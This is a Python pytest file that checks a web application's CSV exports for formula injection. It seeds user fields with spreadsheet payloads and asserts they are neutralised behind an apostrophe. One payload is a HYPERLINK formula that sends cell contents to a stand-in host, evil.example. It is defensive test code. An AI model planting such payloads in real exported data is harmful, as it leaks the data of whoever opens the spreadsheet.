"""Formula injection in CSV exports: user text that a spreadsheet would run as a formula is neutralised.

Every user-controlled field that reaches an export (a partner's name, a bank holder, a workshop
title, a trainer's name, a rejection reason, a campaign's name, a reception point, an audit
actor) starts with `=`, `+`, `-`, `@`, a tab or a carriage return. Each CSV is downloaded through
its real route and read back with the csv module: no text cell starts a formula any more, each
payload is still there (behind an apostrophe), and amounts, negative ones included, stay numbers.
"""
import csv
import io
import re
from datetime import timedelta

import pytest
import sqlalchemy as sa

from partner_site.domain import claims as claim_ops
from partner_site.domain import adjustments, payments, review
from partner_site.domain.bank import current_account
from partner_site.domain.clock import local_today
from partner_site.extensions import db
from partner_site.models import AuditEvent, Booklet, Claim, ClaimLine

from ..bo_helpers import point
from ..claims_world import campaign_for_last_month, make_world, validations

PAYLOADS = {
    "partner": '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")',
    "holder": "+1",
    "title": "@SUM(A1:A9)",
    "trainer": "\t=1+1",
    "reason": "-2+3",
    "campaign": "\r=2+2",
    "point": "=1+2",
    "actor": "@actor",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+([.,]\d+)?$")


def _read(response, delimiter: str) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    assert response.mimetype == "text/csv"
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _formulas(rows) -> list[str]:
    return [cell for row in rows for cell in row if cell[:1] in FORMULA_START and not NUMBER.match(cell)]


@pytest.fixture
def exports(factory, login):
    """Every CSV the site offers, each downloaded with user text crafted as formulas."""
    world = make_world(factory)
    campaign = campaign_for_last_month(factory)
    campaign.name = PAYLOADS["campaign"]
    world.partner.name = PAYLOADS["partner"]
    world.workshop.title = PAYLOADS["title"]
    world.trainer.full_name = PAYLOADS["trainer"]
    current_account(world.partner.id).holder_name = PAYLOADS["holder"]
    where = point(name=PAYLOADS["point"])
    db.session.commit()
    validations(factory, world, campaign, 3)
    db.session.execute(sa.update(Booklet).values(reception_point_id=where.id))
    claim = db.session.execute(sa.select(Claim).where(Claim.partner_id == world.partner.id)).scalar_one()
    claim_ops.submit(world.manager, claim.id)
    first = db.session.execute(sa.select(ClaimLine).where(ClaimLine.claim_id == claim.id)
                               .order_by(ClaimLine.id)).scalars().first()
    review.reject_lines(world.instructor, claim.id, [first.id], PAYLOADS["reason"])
    review.approve(world.instructor, claim.id)
    batch = payments.build_batch(world.finance, [claim.id], local_today() + timedelta(days=1))
    payments.execute_batch(world.finance, batch.id, local_today(), "VIR-1")
    adjustments.correct_paid_claim(world.instructor, claim.id, -500, "Trop-perçu")
    db.session.add(AuditEvent(actor_label=PAYLOADS["actor"], action="test.event", object_type="test",
                              object_id="1"))
    db.session.commit()
    current = db.session.execute(sa.select(Claim.id).where(Claim.partner_id == world.partner.id,
                                                           Claim.id != claim.id)).scalar_one()
    manager, instructor, finance = login(world.manager), login(world.instructor), login(world.finance)
    files = {
        "payments.csv": _read(finance.get(f"/finance/batches/{batch.id}/payments.csv"), ";"),
        "statement.csv": _read(manager.get(f"/claims/{claim.id}/statement.csv"), ";"),
        "staff statement.csv": _read(instructor.get(f"/staff/claims/{claim.id}/statement.csv"), ";"),
        "adjustment statement.csv": _read(manager.get(f"/claims/{current}/statement.csv"), ";"),
        "unused.csv": _read(instructor.get(f"/bo/campaigns/{campaign.id}/unused.csv"), ","),
        "print-shop.csv": _read(instructor.get(f"/bo/campaigns/{campaign.id}/print-shop.csv"), ","),
        "journal.csv": _read(instructor.get("/bo/audit.csv"), ","),
    }
    from partner_site.domain import stats

    for name in stats.TABLES:
        files[f"dashboard {name}.csv"] = _read(instructor.get(f"/bo/dashboard/{name}.csv"), ",")
    return files


def test_no_exported_cell_starts_a_formula(exports):
    found = {name: _formulas(rows) for name, rows in exports.items()}
    assert {name: cells for name, cells in found.items() if cells} == {}


def test_each_payload_is_kept_behind_an_apostrophe(exports):
    cells = {cell for rows in exports.values() for row in rows for cell in row}
    missing = [field for field, payload in PAYLOADS.items() if "'" + payload not in cells]
    assert missing == []


def test_amounts_stay_numbers_a_spreadsheet_can_add(exports):
    adjustment = [row for row in exports["adjustment statement.csv"][1:] if row[5] == "adjustment"]
    assert [row[10] for row in adjustment] == ["-500"]
    (payment,) = exports["payments.csv"][1:]
    assert (payment[8], payment[9]) == ("20,00", "2000")
    budget = exports["dashboard budget.csv"]
    money_columns = [i for i, label in enumerate(budget[0]) if label.endswith("(€)")]
    assert money_columns and all(NUMBER.match(row[i]) for row in budget[1:] for i in money_columns)
